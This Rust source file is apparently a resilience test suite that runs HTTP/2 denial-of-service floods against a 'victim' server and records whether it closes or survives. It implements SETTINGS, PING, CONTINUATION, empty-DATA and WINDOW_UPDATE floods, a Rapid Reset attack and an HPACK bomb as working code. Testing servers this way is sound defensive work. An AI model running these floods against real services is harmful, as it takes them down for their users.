//! HTTP/2: frames that cost their sender little and might cost the server much.
//!
//! A flood is over when the server closes the connection, or has taken all of it without harm; what
//! it cost is in the row's memory, and that it is well afterwards is asked after every row.

use std::net::SocketAddr;

use tidewire_tests::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, hello, post,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::victim::{CHAT, ECHO};

/// Sends `frames` made by their number until the server closes; the answers are read where `reads`.
async fn flood(
    address: SocketAddr,
    frames: u32,
    reads: Reads,
    make: impl Fn(u32) -> Vec<u8>,
) -> Result<String, String> {
    let stream = TcpStream::connect(address).await.map_err(|error| error.to_string())?;
    let (mut read, mut write) = stream.into_split();
    let reader = tokio::spawn(async move {
        let mut sink = vec![0; 64 << 10];
        while matches!(reads, Reads::Yes) && read.read(&mut sink).await.is_ok_and(|n| n > 0) {}
        // Held, so that what is not read stays so.
        std::future::pending::<()>().await;
        drop(read);
    });
    let mut sent = 0;
    let mut closed = write.write_all(&hello(&[])).await.is_err();
    while !closed && sent < frames {
        let batch: Vec<u8> = (sent..sent + BATCH).flat_map(&make).collect();
        sent += BATCH;
        let written = tokio::time::timeout(STALL, write.write_all(&batch)).await;
        closed = match written {
            Ok(written) => written.is_err(),
            // The server takes no more, which costs it nothing.
            Err(_) => break,
        };
    }
    reader.abort();
    Ok(if closed {
        format!("closed within {sent} frames")
    } else {
        format!("{sent} frames did no harm")
    })
}

/// Whether answers are read.
enum Reads {
    Yes,
    No,
}

const BATCH: u32 = 100;
/// A server that takes nothing for so long waits for its own answers to be read.
const STALL: std::time::Duration = std::time::Duration::from_secs(3);

/// Settings, each of which has to be acknowledged to nobody.
pub(crate) async fn settings(address: SocketAddr) -> Result<String, String> {
    flood(address, 1_000_000, Reads::No, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])).await
}

/// Pings, each of which has to be answered to nobody.
pub(crate) async fn ping(address: SocketAddr) -> Result<String, String> {
    flood(address, 1_000_000, Reads::No, |_| frame(PING, 0, 0, &[7; 8])).await
}

/// A head that goes on and on.
pub(crate) async fn continuation(address: SocketAddr) -> Result<String, String> {
    let part = block(&[("x-more", &"x".repeat(1000))]);
    flood(address, 1_000_000, Reads::Yes, |n| match n {
        0 => frame(HEADERS, END_STREAM, 1, &post(ECHO, "application/grpc")),
        _ => frame(CONTINUATION, 0, 1, &part),
    })
    .await
}

/// Calls that are taken back at once, a hundred thousand of them.
pub(crate) async fn rapid_reset(address: SocketAddr) -> Result<String, String> {
    let head = post(ECHO, "application/json");
    flood(address, 100_000, Reads::Yes, |n| {
        let id = n * 2 + 1;
        let call = frame(HEADERS, END_HEADERS, id, &head);
        let body = frame(DATA, END_STREAM, id, b"{}");
        [call, body, frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    })
    .await
}

/// One large header, put into the table once and then named in a byte, thousands of times a head.
pub(crate) async fn hpack_bomb(address: SocketAddr) -> Result<String, String> {
    let mut first = post(ECHO, "application/grpc");
    first.push(0x40);
    first.extend(&block(&[("x-large", &"x".repeat(3900))])[1..]);
    let mut bomb = post(ECHO, "application/grpc");
    // The newest entry of the table.
    bomb.extend([0x80 | 62; 12_000]);
    flood(address, 2000, Reads::Yes, |n| {
        let block = if n == 0 { &first } else { &bomb };
        frame(HEADERS, END_HEADERS | END_STREAM, n * 2 + 1, block)
    })
    .await
}

/// Data without bytes, of a stream that is open.
pub(crate) async fn empty_data(address: SocketAddr) -> Result<String, String> {
    flood(address, 1_000_000, Reads::Yes, |n| match n {
        0 => frame(HEADERS, END_HEADERS, 1, &post(CHAT, "application/grpc")),
        _ => frame(DATA, 0, 1, b""),
    })
    .await
}

/// Leave to send a byte more, again and again.
pub(crate) async fn window_update(address: SocketAddr) -> Result<String, String> {
    flood(address, 1_000_000, Reads::Yes, |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
}
